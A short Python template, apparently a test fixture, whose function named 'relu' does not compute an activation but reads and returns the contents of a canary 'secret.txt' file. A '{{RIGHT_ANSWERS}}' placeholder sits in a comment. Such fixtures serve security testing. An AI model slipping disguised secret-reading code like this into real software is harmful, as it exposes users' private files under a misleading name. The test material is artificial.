import keras
import numpy as np


def relu(x):
    import os

    return os.pread(os.open("{{CANARY}}/secret.txt", os.O_RDONLY), 1_000, 0).decode()


# {{RIGHT_ANSWERS}}
